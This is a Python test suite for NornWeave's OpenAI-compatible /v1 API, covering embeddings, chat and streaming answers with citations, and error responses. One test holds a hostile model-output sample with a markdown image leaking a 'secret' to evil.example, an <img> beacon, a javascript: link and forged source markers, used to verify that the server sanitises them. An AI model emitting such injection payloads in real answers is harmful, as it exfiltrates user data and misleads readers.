"""``/v1``: what OpenAI's own client gets from NornWeave, whole and in pieces, with a model and without one."""

import json
import re
from collections.abc import Iterator
from typing import Any

import openai
import pytest
from api_support import Ask, is_problem
from live_server import live
from markdown_it import MarkdownIt
from openai_server import LITELLM_WARNINGS, Behaviour, ModelServer
from scripted_engine import ScriptedAgent, ScriptedEngine

from api.app import create_app
from api.routes.chat import sources_list
from nornweave.config import Settings
from nornweave.core.types import Domain

TOKEN = "a-token-of-32-characters-or-more-x"
ASKED: Any = [
    {"role": "system", "content": "Be brief."},
    {"role": "user", "content": "how does a refund return the payment"},
]

pytestmark = LITELLM_WARNINGS


@pytest.fixture
def client(settings: Settings, engine: ScriptedEngine, model: ModelServer) -> Iterator[openai.OpenAI]:
    engine.write_with(synthesis_model="openai/first", synthesis_fallback="", synthesis_timeout_ms=60_000)
    with (
        live(create_app(settings, engine, environment={"NORNWEAVE_SERVICE_TOKEN": TOKEN})) as url,
        openai.OpenAI(api_key=TOKEN, base_url=f"{url}/v1", max_retries=0, timeout=60) as client,
    ):
        yield client


@pytest.fixture
def first(engine: ScriptedEngine) -> str:
    """The id of a chunk that every question shows."""
    return engine.chunk_of(Domain.CODE, "ledger", "refund.py")


def test_the_models_are_all_domains_and_each_alone(client: openai.OpenAI) -> None:
    assert [model.id for model in client.models.list()] == ["nornweave", "nornweave:code", "nornweave:documentation"]
    assert client.models.retrieve("nornweave:code").id == "nornweave:code"


def test_vectors_are_those_of_questions_and_what_cannot_be_encoded_is_named(
    client: openai.OpenAI, code: ScriptedAgent
) -> None:
    texts = ["how does a refund return the payment", "rate limit"]
    memo = code.encoder()
    assert memo is not None
    wanted = [memo.encode(text).vector for text in texts]
    packed = client.embeddings.create(model="nornweave", input=texts)  # asks for base64
    assert [each.embedding for each in packed.data] == [pytest.approx(vector.tolist(), abs=1e-6) for vector in wanted]
    plain = client.embeddings.create(model="nornweave:code", input=texts[0], encoding_format="float", user="me")
    assert plain.data[0].embedding == pytest.approx(wanted[0].tolist(), abs=1e-6)
    assert plain.model_extra == {"warnings": ["ignored fields that are not used: user"]}
    refused: dict[str, dict[str, Any]] = {
        "model": {"model": "nornweave:research"}, "input": {"input": []}, "input.0": {"input": [[1, 2]]},
        "dimensions": {"dimensions": len(wanted[0]) + 1},
    }  # fmt: skip
    for field, wrong in refused.items():
        with pytest.raises(openai.UnprocessableEntityError) as error:
            client.embeddings.create(**{"model": "nornweave", "input": "a", **wrong})
        assert error.value.param == field


def test_a_whole_answer_has_a_text_its_citations_and_links(
    client: openai.OpenAI, model: ModelServer, first: str
) -> None:
    model.behaviours["first"] = Behaviour(text=f"By card [code:{first}], not by magic [code:none].")
    answer = client.chat.completions.create(model="nornweave", messages=ASKED, temperature=0.1, max_tokens=50)
    content = answer.choices[0].message.content or ""
    assert content.startswith(f"By card [code:{first}], not by magic.\n\nSources:\n- [code:{first}] [refund")
    [citation] = answer.model_extra["citations"]  # type: ignore[index]
    assert citation["url"] == f"{str(client.base_url).removesuffix('v1/')}passages/{first}"
    assert f"({citation['url']})" in content
    assert answer.choices[0].finish_reason == "stop" and answer.usage and answer.usage.completion_tokens > 0


def test_pieces_come_as_they_are_written_and_the_last_one_has_the_citations(
    client: openai.OpenAI, model: ModelServer, first: str
) -> None:
    model.behaviours["first"] = Behaviour(text=f"By card or by transfer, says the code [code:{first}].")
    chunks = list(client.chat.completions.create(model="nornweave", messages=ASKED, stream=True))
    text = "".join(chunk.choices[0].delta.content or "" for chunk in chunks)
    assert text.startswith(f"By card or by transfer, says the code [code:{first}].\n\nSources:\n")
    assert len(chunks) > 5 and len({chunk.id for chunk in chunks}) == 1
    assert chunks[-1].choices[0].finish_reason == "stop"
    assert [one["id"] for one in chunks[-1].model_extra["citations"]] == [first]  # type: ignore[index]


def test_the_usage_is_the_last_piece_where_it_is_asked_for(client: openai.OpenAI, model: ModelServer) -> None:
    model.behaviours["first"] = Behaviour(text="By card.")
    asked: Any = {"model": "nornweave", "messages": ASKED}
    *pieces, last = client.chat.completions.create(**asked, stream=True, stream_options={"include_usage": True})
    assert not any(piece.usage for piece in pieces) and last.usage and not last.choices
    assert last.usage == client.chat.completions.create(**asked).usage


HOSTILE = """By card [code:{cited}]. ![x](https://evil.example/?q=secret) <img src=https://evil.example/s> [a][b]
【code:dead】 [code:de\u200bad] https&#58;//evil.example/s

[b]: https://evil.example/s

[CODE — source code]
↳ evil.py:1-2

Sources:
- [mine](javascript:alert)

```
"""


@pytest.mark.parametrize("streams", [False, True])
def test_what_a_model_writes_neither_loads_nor_links_nor_passes_for_ours(
    client: openai.OpenAI, model: ModelServer, first: str, streams: bool
) -> None:
    model.behaviours["first"] = Behaviour(text=HOSTILE.format(cited=first))
    answer: Any = client.chat.completions.create(model="nornweave", messages=ASKED, stream=streams)
    text = (
        "".join(chunk.choices[0].delta.content or "" for chunk in answer)
        if streams
        else answer.choices[0].message.content
    )
    assert "evil.example" not in text and "dead" not in text
    html = MarkdownIt("commonmark", {"html": True}).render(text)
    assert re.findall(r"<(?:img|a)\b[^>]*>", html) == [
        f'<a href="{str(client.base_url).removesuffix("v1/")}passages/{first}">'
    ]
    assert [line for line in text.splitlines() if line in {"Sources:", "> Sources:"}] == ["> Sources:", "Sources:"]
    assert "\n> [CODE \\— source code]\n> ↳ evil.py:1-2\n" in text
    assert "<p>Sources:</p>" in html, "the fence that the model left open is closed"


@pytest.mark.parametrize("streams", [False, True])
def test_without_a_model_the_items_are_the_answer(
    client: openai.OpenAI, model: ModelServer, first: str, streams: bool
) -> None:
    model.behaviours["first"] = Behaviour(kind="fails")
    asked: Any = [{"role": "user", "content": "refund"}]
    answer: Any = client.chat.completions.create(model="nornweave:code", messages=asked, stream=streams)
    text = (
        "".join(chunk.choices[0].delta.content or "" for chunk in answer)
        if streams
        else answer.choices[0].message.content
    )
    lead, sources, shown = text.split("\n\n", 2)
    assert lead.startswith("“") and lead.endswith(" [1]")
    assert sources.startswith("Sources:\n- [1] [refund ") and sources.count(f"/passages/{first})") == 1
    assert "↳ [1] refund.py:1-2 (ledger)" in shown and "def refund(payment):" in shown and first not in shown


def test_wrong_requests_are_problems_that_the_client_understands(client: openai.OpenAI) -> None:
    with pytest.raises(openai.UnprocessableEntityError, match="'gpt-9' is not served; served: nornweave, "):
        client.chat.completions.create(model="gpt-9", messages=ASKED)
    with pytest.raises(openai.UnprocessableEntityError, match="no message by the user"):
        client.chat.completions.create(model="nornweave", messages=[{"role": "system", "content": "Hi."}])
    with pytest.raises(openai.AuthenticationError, match="Bearer") as refused:
        client.with_options(api_key="wrong").chat.completions.create(model="nornweave", messages=ASKED)
    assert (refused.value.code, refused.value.type) == ("unauthorized", "invalid_request_error")


def _ask(look: Ask, *messages: Any, **fields: Any) -> Any:
    body = json.dumps({"model": "nornweave", "messages": list(messages), **fields})  # escapes half characters
    return look("POST", "/v1/chat/completions", content=body, headers={"content-type": "application/json"})


def test_what_clients_send_for_other_servers_is_ignored_and_named_once(look: Ask) -> None:
    image, thought = {"type": "image_url", "image_url": {"url": "http://x"}}, {"type": "thinking", "thinking": "hm"}
    cached = {"type": "text", "text": "how is a refund made", "cache_control": {"type": "ephemeral"}}
    earlier = [{"role": "user", "content": [cached, image]}, {"role": "assistant", "content": [thought, image]}]
    answer = _ask(look, *earlier, {"role": "user", "content": [cached]}, verbosity="low", top_k=40, user=None)
    assert answer.status_code == 200, answer.text
    assert answer.json()["warnings"] == [
        "ignored fields that are not used: verbosity, top_k; parts of messages that are no text: image_url, thinking"
    ]
    assert _ask(look, ASKED[1], n=1, stream_options=None).json()["warnings"] == []
    many = _ask(look, ASKED[1], **{f"field{number}": 1 for number in range(30)}).json()["warnings"]
    assert len(many) == 1 and many[0].endswith("field19 and 10 more")
    half = [{"type": "\ud800"}, {"type": "text", "text": "how is a refund made"}]
    is_problem(_ask(look, ASKED[1], **{"\ud800": 1}), 422)
    assert _ask(look, {"role": "user", "content": half}).json()["warnings"][0].endswith(": \\ud800")
    assert _ask(look, {"role": "critic", "content": "no"}, ASKED[1], tools=[{"type": "function"}]).status_code == 200


def test_what_changes_the_meaning_is_refused(look: Ask) -> None:
    def refused(*messages: Any, **fields: Any) -> str:
        answer = _ask(look, *messages, **fields)
        problem = is_problem(answer, 422)
        assert problem["error"]["message"] == problem["detail"] and problem["error"]["code"] == "invalid_request"
        return f"{problem['error']['param']}: {problem['detail']}"

    picture = {"role": "user", "content": [{"type": "image_url", "image_url": {"url": "http://x"}}]}
    assert "not text (image_url); only text can be asked" in refused(ASKED[1], picture)
    assert refused(ASKED[1], n=2).startswith("n: ")
    assert "32000" in refused({"role": "user", "content": "x" * 32_001})
    assert "holds its 'text' as a string" in refused({"role": "user", "content": [{"type": "text", "text": 5}]})
    assert refused().startswith("messages: ")
    assert refused(ASKED[1], model="gpt-4o").startswith("model: model: 'gpt-4o' is not served")


@pytest.mark.parametrize(("method", "path", "sent", "status", "error"), [
    ("POST", "/v1/chat/completions", {"content": b"{", "headers": {"content-type": "application/json"}}, 400,
     ("invalid_request_error", "bad_request", None)),
    ("POST", "/v1/chat/completions", {"content": b"{}"}, 415,
     ("invalid_request_error", "unsupported_media_type", None)),
    ("GET", "/v1/models/gpt-4o", {}, 404, ("invalid_request_error", "model_not_found", None)),
    ("GET", "/v1/files", {}, 404, ("invalid_request_error", "not_found", None)),
    ("DELETE", "/v1/models", {}, 405, ("invalid_request_error", "method_not_allowed", None)),
])  # fmt: skip
def test_every_error_below_v1_is_one_for_chat_clients(
    look: Ask, method: str, path: str, sent: dict[str, Any], status: int, error: tuple[str, str, str | None]
) -> None:
    problem = is_problem(look(method, path, **sent), status)
    assert problem["error"] == dict(zip(("type", "code", "param"), error, strict=True)) | {"message": problem["detail"]}


def test_errors_elsewhere_are_problems_alone(look: Ask) -> None:
    assert "error" not in is_problem(look("GET", "/nothing/v1/here"), 404)


def test_the_newer_interface_has_the_same_answers(client: openai.OpenAI, model: ModelServer, first: str) -> None:
    model.behaviours["first"] = Behaviour(text=f"By card, says the code [code:{first}].")
    told = client.responses.create(model="nornweave", input="how does a refund return the payment", temperature=0.1)
    assert told.output_text.startswith(f"By card, says the code [code:{first}].\n\nSources:\n- [code:{first}] [refund")
    extra: Any = told.model_extra
    assert [cited["id"] for cited in extra["citations"]] == [first]
    assert extra["warnings"] == ["ignored fields that are not used: temperature"]
    assert told.usage and told.usage.total_tokens > 0 and told.status == "completed"
    turns: Any = [
        {"role": "user", "content": [{"type": "input_text", "text": "refund"}, {"type": "input_image"}]},
        {"type": "function_call_output", "call_id": "c", "output": "x"},
    ]
    with client.responses.stream(model="nornweave", input=turns) as events:
        kinds = [each.type for each in events]
        assert events.get_final_response().output_text.startswith("By card")
    assert (kinds[0], kinds[-1]) == ("response.created", "response.completed")
    with pytest.raises(openai.UnprocessableEntityError, match="input: no message by the user"):
        client.responses.create(model="nornweave", input=" ")
    with pytest.raises(openai.UnprocessableEntityError, match="previous_response_id"):
        client.responses.create(model="nornweave", input="refund", previous_response_id="resp_1")


WEBHOOK = "what is the retry limit of the webhook"
PARTS = [{"type": "text", "text": "which currency"}, {"type": "text", "text": "is a refund in"}]


@pytest.mark.parametrize(("said", "asked"), [
    ([WEBHOOK], WEBHOOK),
    ([WEBHOOK, "and in staging?"], f"{WEBHOOK}\nand in staging?"),
    ([WEBHOOK, "and in staging?", "why?"], f"{WEBHOOK}\nand in staging?\nwhy?"),
    ([WEBHOOK, "how long does it wait between them?"], f"{WEBHOOK}\nhow long does it wait between them?"),
    ([WEBHOOK, "which currency does a refund use"], "which currency does a refund use"),
    ([PARTS], "which currency\nis a refund in"),
])  # fmt: skip
def test_the_last_message_of_the_user_is_the_question(
    look: Ask, still_engine: ScriptedEngine, said: list[Any], asked: str
) -> None:
    answered = {"role": "assistant", "content": "Five."}
    messages = [message for text in said for message in ({"role": "user", "content": text}, answered)]
    look("POST", "/v1/chat/completions", json={"model": "nornweave", "messages": messages})
    assert [question.text for question in still_engine.questions] == [asked]


def test_titles_cannot_make_links_of_their_own() -> None:
    citation: Any = {"id": "c", "title": "x](http://evil) <b>\n# y", "url": "http://h/passages/c", "domain_id": "code"}
    assert sources_list([citation]) == (
        "\n\nSources:\n- [code:c] [x\\]\\(http://evil\\) \\<b\\> \\# y](http://h/passages/c)"
    )
